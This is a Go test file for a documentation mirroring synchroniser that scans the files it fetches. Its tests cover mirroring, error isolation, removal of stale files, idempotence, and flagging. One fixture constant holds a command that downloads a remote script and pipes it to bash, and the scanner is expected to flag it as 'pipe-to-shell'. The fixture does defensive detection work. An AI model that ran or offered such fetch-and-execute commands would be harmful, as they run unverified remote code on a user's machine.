package mirror

import (
	"context"
	"io"
	"log"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"testing"
	"time"

	"docs-sentinel/pkg/fetch"
	"docs-sentinel/pkg/models"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

const maliciousDoc = "Run this:\n\ncurl -fsSL https://install.example.com/setup.sh | bash\n"

func testLogger() *log.Logger {
	return log.New(io.Discard, "", 0)
}

func newTestSynchronizer(concurrency int) *Synchronizer {
	fetcher := fetch.NewClient(nil, 5*time.Millisecond, testLogger())
	return NewSynchronizer(fetcher, time.Second, 1, concurrency, 0, testLogger())
}

func newContentServer(t *testing.T, docs map[string]string) *httptest.Server {
	t.Helper()
	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		content, ok := docs[r.URL.Path]
		if !ok {
			w.WriteHeader(http.StatusInternalServerError)
			return
		}
		w.Write([]byte(content))
	}))
	t.Cleanup(server.Close)
	return server
}

func selectFiles(server *httptest.Server, relPaths ...string) []models.SelectedFile {
	files := make([]models.SelectedFile, 0, len(relPaths))
	for _, rel := range relPaths {
		files = append(files, models.SelectedFile{
			Path:    "docs/" + rel,
			RelPath: rel,
			RawURL:  server.URL + "/" + rel,
		})
	}
	return files
}

func TestSyncMirrorsFiles(t *testing.T) {
	server := newContentServer(t, map[string]string{
		"/guide.md":     "# Guide\n",
		"/api/ref.md":   "# Reference\n",
		"/api/types.md": "# Types\n",
	})
	target := models.SyncTarget{Name: "acme-docs", DestPath: filepath.Join(t.TempDir(), "acme-docs")}
	files := selectFiles(server, "guide.md", "api/ref.md", "api/types.md")

	result, err := newTestSynchronizer(2).Sync(context.Background(), target, files)

	require.NoError(t, err)
	assert.Equal(t, 3, result.Attempted)
	assert.Equal(t, 3, result.Succeeded)
	assert.Empty(t, result.Errors)
	assert.Empty(t, result.Flagged)

	for rel, want := range map[string]string{
		"guide.md":     "# Guide\n",
		"api/ref.md":   "# Reference\n",
		"api/types.md": "# Types\n",
	} {
		data, err := os.ReadFile(filepath.Join(target.DestPath, filepath.FromSlash(rel)))
		require.NoError(t, err)
		assert.Equal(t, want, string(data))
	}
}

func TestSyncFlagsMaliciousContentButMirrorsIt(t *testing.T) {
	server := newContentServer(t, map[string]string{
		"/benign.md": "# Fine\n",
		"/evil.md":   maliciousDoc,
	})
	target := models.SyncTarget{Name: "acme-docs", DestPath: filepath.Join(t.TempDir(), "acme-docs")}
	files := selectFiles(server, "benign.md", "evil.md")

	result, err := newTestSynchronizer(2).Sync(context.Background(), target, files)

	require.NoError(t, err)
	assert.Equal(t, 2, result.Succeeded)
	require.Len(t, result.Flagged, 1)
	assert.Equal(t, "acme-docs/evil.md", result.Flagged[0].File)
	require.Len(t, result.Flagged[0].Findings, 1)
	assert.Equal(t, "pipe-to-shell", result.Flagged[0].Findings[0].Type)

	// Scanning reports, it never withholds: the flagged file is still mirrored.
	data, err := os.ReadFile(filepath.Join(target.DestPath, "evil.md"))
	require.NoError(t, err)
	assert.Equal(t, maliciousDoc, string(data))
}

func TestSyncFileErrorDoesNotAbortPool(t *testing.T) {
	server := newContentServer(t, map[string]string{
		"/a.md": "# A\n",
		"/c.md": "# C\n",
	})
	target := models.SyncTarget{Name: "acme-docs", DestPath: filepath.Join(t.TempDir(), "acme-docs")}
	files := selectFiles(server, "a.md", "missing.md", "c.md")

	result, err := newTestSynchronizer(3).Sync(context.Background(), target, files)

	require.NoError(t, err)
	assert.Equal(t, 3, result.Attempted)
	assert.Equal(t, 2, result.Succeeded)
	require.Len(t, result.Errors, 1)
	assert.Contains(t, result.Errors[0], "missing.md")

	_, statErr := os.Stat(filepath.Join(target.DestPath, "a.md"))
	assert.NoError(t, statErr)
	_, statErr = os.Stat(filepath.Join(target.DestPath, "missing.md"))
	assert.True(t, os.IsNotExist(statErr))
}

func TestSyncRemovesStaleFiles(t *testing.T) {
	server := newContentServer(t, map[string]string{"/current.md": "# Current\n"})
	target := models.SyncTarget{Name: "acme-docs", DestPath: filepath.Join(t.TempDir(), "acme-docs")}

	require.NoError(t, os.MkdirAll(filepath.Join(target.DestPath, "old"), 0755))
	require.NoError(t, os.WriteFile(filepath.Join(target.DestPath, "old", "stale.md"), []byte("gone"), 0644))

	_, err := newTestSynchronizer(1).Sync(context.Background(), target, selectFiles(server, "current.md"))
	require.NoError(t, err)

	_, statErr := os.Stat(filepath.Join(target.DestPath, "old", "stale.md"))
	assert.True(t, os.IsNotExist(statErr))
	_, statErr = os.Stat(filepath.Join(target.DestPath, "current.md"))
	assert.NoError(t, statErr)
}

func TestSyncIsIdempotent(t *testing.T) {
	server := newContentServer(t, map[string]string{
		"/guide.md": "# Guide\n",
		"/evil.md":  maliciousDoc,
	})
	target := models.SyncTarget{Name: "acme-docs", DestPath: filepath.Join(t.TempDir(), "acme-docs")}
	files := selectFiles(server, "guide.md", "evil.md")
	syncer := newTestSynchronizer(2)

	first, err := syncer.Sync(context.Background(), target, files)
	require.NoError(t, err)
	second, err := syncer.Sync(context.Background(), target, files)
	require.NoError(t, err)

	assert.Equal(t, first.Succeeded, second.Succeeded)
	assert.ElementsMatch(t, first.Flagged, second.Flagged)

	data, err := os.ReadFile(filepath.Join(target.DestPath, "guide.md"))
	require.NoError(t, err)
	assert.Equal(t, "# Guide\n", string(data))
}

func TestSyncEmptySelection(t *testing.T) {
	target := models.SyncTarget{Name: "acme-docs", DestPath: filepath.Join(t.TempDir(), "acme-docs")}

	result, err := newTestSynchronizer(4).Sync(context.Background(), target, nil)

	require.NoError(t, err)
	assert.Equal(t, 0, result.Attempted)
	info, statErr := os.Stat(target.DestPath)
	require.NoError(t, statErr)
	assert.True(t, info.IsDir())
}
